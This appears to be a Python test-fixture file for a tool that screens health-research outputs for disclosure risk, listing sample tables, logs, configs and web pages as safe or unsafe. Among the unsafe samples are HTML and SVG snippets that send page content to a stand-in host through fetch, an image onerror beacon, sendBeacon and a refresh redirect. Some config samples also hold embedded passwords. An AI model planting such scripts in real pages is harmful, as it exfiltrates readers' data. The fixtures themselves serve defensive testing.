"""Ways of writing that the fourth set of outputs made us try: neighbours of what it showed, few of them the same."""

from tests.airlock.checks.styles import s, u

# ---- survival read at fixed dates
s(
    "fourth_km_years.csv",
    "years;at risk;survival;lower;upper\n0;5210;1,000;1,000;1,000\n1;4102;0,931;0,922;0,940\n2;3004;0,874;0,861;0,887\n3;2011;0,822;0,806;0,838\n5;904;0,741;0,720;0,762\n",
    "Survival by year",
    "5,210 patients",
)
s(
    "fourth_km_pct.md",
    "# Survie globale\n\n| Temps (mois) | À risque | Survie (%) |\n|---|---|---|\n| 0 | 3120 | 100,0 |\n| 12 | 2410 | 88,2 |\n| 24 | 1804 | 79,9 |\n| 36 | 1102 | 71,4 |\n| 60 | 540 | 60,3 |\n",
    "Survie globale",
    "3 120 patients",
)
u(
    "fourth_km_days.csv",
    "time;survival\n3;0,991\n11;0,982\n14;0,973\n29;0,964\n41;0,955\n57;0,946\n80;0,937\n",
    "Kaplan-Meier",
    "111 patients",
)
# ---- what is no person
s(
    "fourth_wp.csv",
    "work package;lead;start month;duration (months);person-months\nWP1;A;1;6;8\nWP2;B;4;9;7\nWP3;A;7;12;5\n",
)
s(
    "fourth_lots.md",
    "Calendrier du projet, étude sur 4 000 patients\n\n| Lot | Début (mois) | Fin (mois) | Livrables | ETP |\n|---|---|---|---|---|\n| 1 | 1 | 6 | 2 | 1 |\n| 2 | 4 | 12 | 3 | 2 |\n| 3 | 9 | 18 | 1 | 2 |\n",
)
s(
    "fourth_visits.csv",
    "assessment,V1,V2,V3,V4,V5\nDay,0,7,14,28,90\nWindow (days),0,1,2,3,7\nConsent,X,,,,\nECG,X,,X,,X\n",
    "Schedule of visits of the patients",
)
s(
    "fourth_score.md",
    "# Score de risque\n\nPoints du score, patients de réanimation.\n\n| Critère | Points |\n|---|---|\n| Âge > 75 ans | 2 |\n| Diabète | 1 |\n| AVC | 2 |\n| Insuffisance rénale | 3 |\n",
)
s(
    "fourth_params.json",
    '{"model":"lightgbm","cv":{"n_splits":5,"n_repeats":3},"early_stopping":8,"n_jobs":4,"seed":3}',
    "patients",
)
s(
    "fourth_params.yaml",
    "model:\n  n_estimators: 400\n  max_depth: 4\ncv:\n  n_splits: 5\n  n_repeats: 2\nversion: 3\nlag: 2\n",
    "patients",
)
s(
    "fourth_points.json",
    '{"score":"early warning","points":{"heart_rate":[[50,2],[90,0],[110,1],[130,3]],"temperature":[[35,3],[38,0],[39,2]]},"cut_offs":{"low":1,"high":7}}',
    "Score of ward patients",
)
s(
    "fourth_atlas.json",
    '{"InclusionRules":[{"name":"two codes","expression":{"Type":"ALL","CriteriaList":[{"Occurrence":{"Type":2,"Count":3}}]}}],"PrimaryCriteria":{"ObservationWindow":{"PriorDays":7,"PostDays":0}}}',
    "Definition of a cohort of patients",
)
s(
    "fourth_lags.csv",
    "lag,coefficient,se\n1,0.31,0.04\n2,0.12,0.04\n3,0.02,0.05\n",
    "Autocorrelation of daily admissions",
)
s(
    "fourth_ranks.csv",
    "rang,service,séjours,durée médiane (j)\n1,Cardiologie,6580,5\n2,Oncologie,5340,7\n3,Neurologie,4100,6\n",
)
s(
    "fourth_completeness.csv",
    "variable,2019,2020,2021\npoids,88.1,91.2,90.4\ntaille,79.9,75.0,81.4\nhb,93.1,88.0,95.5\ntas,71.0,90.1,84.4\nfc,70.3,89.2,77.5\nage,99.1,98.9,99.6\nsexe,99.9,99.8,99.7\nimc,60.1,71.4,66.0\nldl,44.0,39.9,52.1\nhdl,43.1,38.8,51.1\ncrp,81.1,72.2,88.9\nk,90.9,95.1,91.3\nna,91.0,95.0,91.9\nuree,90.8,88.2,93.1\ntgo,66.1,59.9,71.2\n",
    "Complétude des variables en %",
)
s(
    "fourth_cases.csv",
    "age,sexe,n,cas,pct\n18-39,F,8888,1047,11.8\n18-39,H,15613,2546,16.3\n40-59,F,11566,2998,25.9\n40-59,H,13256,1570,11.8\n",
)
s(
    "fourth_etl.log",
    "02:01:07 INFO reading patient: 184022 rows\n02:02:01 INFO sejour : 912004 lignes\n02:03:11 INFO loaded person 52210 records\n02:03:40 INFO codes LAB0012, LAB0107\n2024-03-11 02:04:26 INFO joined\n",
)
s("fourth_months.csv", "mois,passages\n01/23,4840\n02/23,4480\n03/23,4450\n", "Passages par mois")
# ---- doses and limits
s(
    "fourth_dose.md",
    "Ténectéplase 0,25 mg/kg (maximum 25 mg) en bolus. Héparine : dose maximale 5000 UI par jour. Maximum 4 g of paracetamol per day; minimum dose 50 mg.",
)
u("fourth_dose_lab.md", "Le lactate maximum était de 27,3 mmol/L ; la créatininémie maximale atteignait 912 µmol/L.")
s(
    "fourth_from2.md",
    "Un traitement est proposé à partir de 2 points chez l'homme et de 3 chez la femme. The cut-off is 4 for women and 5 for men.",
)
s(
    "fourth_titles.md",
    "1 Introduction\n\nWe describe care.\n\n2 Methods\n\nCodes were used.\n\n3 Participants\n\nAll adults.\n\n4 Deaths within one year\n\nSee table 2.\n",
)
u("fourth_tile.md", "Bilan de la semaine\n\n3 Décès\n\n412 Patients\n")
# ---- shares of a whole told nearby
u("fourth_of_all.csv", "reaction,treated,percent\nNausea,640,4.22\nRash,640,11.56\nAnaphylaxis,640,0.31\n")
u("fourth_of_all_fr.csv", "effet;patients traités;%\nNausées;1210;8,3\nÉruption;1210;4,1\nAnaphylaxie;1210;0,2\n")
s("fourth_of_all_ok.csv", "reaction,treated,percent\nNausea,640,4.22\nRash,640,11.56\nDizziness,640,9.06\n")
u(
    "fourth_next.md",
    "Among 1,460 patients the median age was 81 years. At admission 18.4% took a vitamin K antagonist, 11.9% apixaban and 0.2% rivaroxaban.",
)
u(
    "fourth_next_fr.md",
    "Parmi les 912 patients inclus, l'âge médian était de 70 ans. Un choc est survenu chez 12,1 % et une dissection chez 0,4 %.",
)
s(
    "fourth_next_ok.md",
    "Among 1,460 patients the median age was 81 years. At admission 18.4% took a vitamin K antagonist and 11.9% apixaban.",
)
u(
    "fourth_permille.md",
    "All rates are over 2,080 vaccinated patients.\n\n| event | per 1,000 vaccinated |\n|---|---|\n| fever | 88.5 |\n| myocarditis | 1.9 |\n",
)
u("fourth_permille2.md", "Of 2,080 vaccinated, myocarditis occurred in 1.9 per 1,000.")
u("fourth_permille3.md", "La myocardite concernait 1,9 pour mille des 2 080 patients vaccinés.")
u("fourth_paren.md", "Only 0.5% (of 380) needed ECMO.")
u(
    "fourth_poster.txt",
    "Outcomes of 380 patients with influenza\nVentilation: 61.1%\nProne position: 22.4%\nECMO: 0.5%\n",
)
s(
    "fourth_poster_ok.txt",
    "Outcomes of 380 patients with influenza\nVentilation: 61.1%\nProne position: 22.4%\nECMO: 7.5%\n",
)
# ---- totals told in one text
u("fourth_from_to.md", "After leaving out transplants the cohort goes from 1,218 to 1,214 patients.")
u("fourth_from_to_fr.md", "Après exclusion des greffés, l'effectif passe de 1 218 à 1 214 patients.")
u("fourth_flow.md", "There were 1,218 eligible patients. After exclusions, 1,214 patients were analysed.")
u("fourth_flow_fr.md", "1 218 patients étaient éligibles. Au final, 1 214 patients ont été analysés.")
s("fourth_flow_ok.md", "There were 1,218 eligible patients. After exclusions, 1,114 patients were analysed.")
# ---- extremes
u(
    "fourth_minmax.csv",
    "test,n,median,value_min,value_max\nNa,7990,137,104,171\nK,7981,4.2,1.7,8.8\n",
    "Laboratory values by test",
    "8,015 patients",
)
u(
    "fourth_minutes.md",
    "| Statistic | Minutes |\n|---|---|\n| Median | 47 |\n| Minimum | 4 |\n| Maximum | 611 |\n",
    "Time to needle",
)
u(
    "fourth_lowhigh.md",
    "| Indicateur | Jours |\n|---|---|\n| Médiane | 6 |\n| Plus court | 1 |\n| Plus long | 212 |\n",
    "Durées de séjour",
)
u(
    "fourth_prose_min.md",
    "Door-to-needle time had a median of 47 minutes, with a shortest of 4 and a longest of 611 minutes.",
)
# ---- printed by SAS, R, Stata
u(
    "fourth_freq.txt",
    "                                The FREQ Procedure\n\n                              Table of ARM by GRADE\n\n   ARM       GRADE\n   Frequency|Grade 1 |Grade 2 |Grade 3 |Grade 4 |\n   ---------+--------+--------+--------+--------+\n   A        |    288 |    194 |     86 |     41 |\n   ---------+--------+--------+--------+--------+\n   B        |    331 |    202 |     69 |      2 |\n   ---------+--------+--------+--------+--------+\n",
    "",
    "1,213 patients",
)
u(
    "fourth_freq_one.txt",
    "The FREQ Procedure\n\n                                    Cumulative    Cumulative\nGRADE    Frequency     Percent     Frequency      Percent\n----------------------------------------------------------\n1             288       47.29           288        47.29\n2             194       31.86           482        79.15\n3             120       19.70           602        98.85\n4               7        1.15           609       100.00\n",
)
u(
    "fourth_aov.txt",
    "> summary(aov(los ~ ward, data = d))\n            Df Sum Sq Mean Sq F value Pr(>F)\nward         3  12.31   4.103   9.214 0.0260 *\nResiduals    6   2.67   0.445\n",
)
s(
    "fourth_aov_ok.txt",
    "> summary(aov(los ~ ward, data = d))\n              Df Sum Sq Mean Sq F value Pr(>F)\nward           3  12.31   4.103   9.214 0.0260 *\nResiduals   4406 212.67   0.048\n",
)
u(
    "fourth_tab.txt",
    ". tabulate ward died\n\n           |         died\n      ward |         0          1 |     Total\n-----------+----------------------+----------\n  Medicine |       412         41 |       453\n   Surgery |       388          6 |       394\n-----------+----------------------+----------\n     Total |       800         47 |       847\n",
)
u(
    "fourth_summary.txt",
    "> summary(d$age)\n   Min. 1st Qu.  Median    Mean 3rd Qu.    Max.\n  18.00   51.00   64.00   62.31   76.00   99.00\n",
)
u(
    "fourth_crosstab.html",
    "<h3>Mode de sortie</h3><table><tr><th></th><th>domicile</th><th>fugue</th></tr><tr><th>Neurologie</th><td>1980</td><td>2</td></tr><tr><th>Urologie</th><td>1204</td><td>31</td></tr></table>",
    "pd.crosstab, sortie par service",
    "24 000 séjours en 2022",
)
# ---- pages that run something
u(
    "fourth_onload.html",
    "<html><body onload=\"fetch('https://x.example/?d='+document.body.innerText)\"><p>OR 1.2</p></body></html>",
)
u("fourth_onerror.html", "<p>OR 1.2</p><img src=x onerror=\"new Image().src='//x.example/'+document.title\">")
u(
    "fourth_script.html",
    "<p>OR 1.2</p><script>navigator.sendBeacon('https://x.example', document.body.innerHTML)</script>",
)
u("fourth_refresh.html", "<meta http-equiv='refresh' content='0;url=https://x.example/'><p>OR 1.2</p>")
s(
    "fourth_sort.html",
    "<table><tr><th onclick=\"sortTable(0)\">Predictor</th><th>OR</th></tr><tr><td>Age</td><td>1.02</td></tr></table><script>function sortTable(n){var t=document.querySelector('table');}</script>",
)
u(
    "fourth_onload.svg",
    "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><text x='1' y='1'>Title</text></svg>",
)
# ---- bars told by texts
u(
    "fourth_bars.svg",
    "<svg xmlns='http://www.w3.org/2000/svg'><text x='20' y='30'>Deaths by cause</text>"
    + "".join(
        f"<text x='{60 + 80 * k}' y='330'>{w}</text><rect x='{50 + 80 * k}' y='{300 - n / 2}' width='40' height='{n / 2}'/><text x='{60 + 80 * k}' y='{295 - n / 2}'>{n}</text>"
        for k, (w, n) in enumerate((("Cancer", 388), ("Infection", 204), ("Trauma", 41), ("Suicide", 6)))
    )
    + "</svg>",
    "Causes of death of the patients",
)
s(
    "fourth_bars_ok.svg",
    "<svg xmlns='http://www.w3.org/2000/svg'><text x='20' y='30'>Median length of stay (days)</text>"
    + "".join(
        f"<text x='20' y='{80 + 40 * k}'>{w}</text><rect x='150' y='{62 + 40 * k}' width='{40 * n}' height='24'/><text x='{160 + 40 * n}' y='{80 + 40 * k}'>{n}</text>"
        for k, (w, n) in enumerate((("Cardiology", 5), ("Surgery", 7), ("Oncology", 9)))
    )
    + "</svg>",
    "Length of stay by ward",
    "12,000 stays",
)
# ---- trees
u(
    "fourth_tree.txt",
    "|--- age <= 61.5\n|   |--- crp <= 12\n|   |   |--- weights: [24.00, 1.00] class: 0\n|   |--- crp >  12\n|   |   |--- weights: [3.00, 2.00] class: 0\n",
)
u(
    "fourth_rpart.txt",
    "n= 812\n\nnode), split, n, loss, yval, (yprob)\n      * denotes terminal node\n\n1) root 812 204 0 (0.75 0.25)\n  2) age< 61.5 808 200 0 (0.752 0.248) *\n  3) age>=61.5 4 0 1 (0.000 1.000) *\n",
)
s("fourth_tree_ok.txt", "|--- age <= 61.5\n|   |--- class: 0\n|--- age >  61.5\n|   |--- class: 1\n")
# ---- secrets deep in settings
u("fourth_secret.json", '{"seed":42,"database":{"host":"db","user":"etl","password":"vK8-hemo-Patella"}}')
u("fourth_secret.yaml", "seed: 42\nwarehouse:\n  connection:\n    user: etl\n    passwd: 'vK8-hemo-Patella'\n")
u("fourth_secret.toml", 'seed = 42\n[service.auth]\nclient_secret = "vK8hemoPatella99"\n')
s("fourth_secret_ok.json", '{"seed":42,"database":{"host":"db","user":"etl","password":"${DB_PASSWORD}"}}')
# ---- arrays
u(
    "fourth_roc.txt",
    "fpr = [0.0192, 0.0385, 0.0577, 0.0577, 0.0769, 0.0962, 0.1154, 0.1538, 0.1731, 0.25, 0.5, 1.0]\ntpr = [0.0, 0.0227, 0.0227, 0.0682, 0.0909, 0.1364, 0.1591, 0.1818, 0.2045, 0.2273, 0.5, 1.0]\n",
    "ROC",
    "96 patients",
)
u(
    "fourth_roc_np.txt",
    ">>> fpr\nfpr: array([0.    , 0.0192, 0.0385, 0.0577, 0.0577, 0.0769,\n       0.0962, 0.1154, 0.1538, 0.1731, 0.25  , 1.    ])\ntpr: array([0.    , 0.0227, 0.0227, 0.0682, 0.0909, 0.1364,\n       0.1591, 0.1818, 0.2045, 0.2273, 0.5   , 1.    ])\n",
    "ROC",
    "96 patients",
)
# ---- single persons in prose
u(
    "fourth_baker.md",
    "To illustrate late presentation: a 93-year-old retired baker was found by her neighbour after a fall.",
)
u("fourth_teacher.md", "Vignette. A 47-year-old primary school teacher presented with fever.")
u("fourth_boulanger.md", "Un boulanger retraité de 61 ans a été retrouvé par sa voisine.")
u(
    "fourth_charts.md",
    "- Chart 1: woman of 51, coded for a relative\n- Chart 2: man of 64, ruled out by CT\n- Chart 3: woman of 64, negative\n",
)
u(
    "fourth_dossiers.md",
    "1. Femme, 51 ans, codée pour un proche\n2. Homme, 64 ans, éliminé au scanner\n3. Femme, 64 ans, test négatif\n",
)
u("fourth_mf.txt", "67F admitted with sepsis, cured\n54M fall at home, surgery\n71M stroke, transferred\n")
s(
    "fourth_aged_ok.md",
    "A 5-year-old database was used. Le registre de 12 ans couvre la région. A 10-year-old cohort of women was followed. Un suivi médian de 5 ans. Une différence moyenne de 3 ans a été vue. Un plan de 5 ans est prévu.",
)
# ---- notes on a page that count no persons
s(
    "fourth_arms.md",
    "Essai randomisé, 2 bras parallèles, 6 centres, blocs de 4. V2 : J1 ± 6 heures. Comité tous les 6 mois, 775 patients par bras.",
)
s(
    "fourth_latex_p.tex",
    "\\begin{tabular}{lrr}\nVariable & HR & p \\\\\n\\hline\nHTA & 1,71 & \\textless{}0,001 \\\\\nDiabète & 1,30 & 0,004 \\\\\n\\end{tabular}\n",
)
u(
    "fourth_latex_masked.tex",
    "\\begin{tabular}{lrrrr}\nRégion & Femmes & Hommes & Non précisé & Total \\\\\n\\hline\nNord & 700 & 715 & 39 & 1454 \\\\\nOuest & 902 & 731 & \\textless{}10 & 1640 \\\\\n\\end{tabular}\n",
)
u(
    "fourth_one_in.md",
    "We studied 1,200 patients after hip surgery. About 1 patient in 300 had to be operated on again.",
)
s(
    "fourth_one_in_ok.md",
    "We studied 1,200 patients after hip surgery. About one patient in five was a diabetic, 1 patient in 10 a smoker.",
)
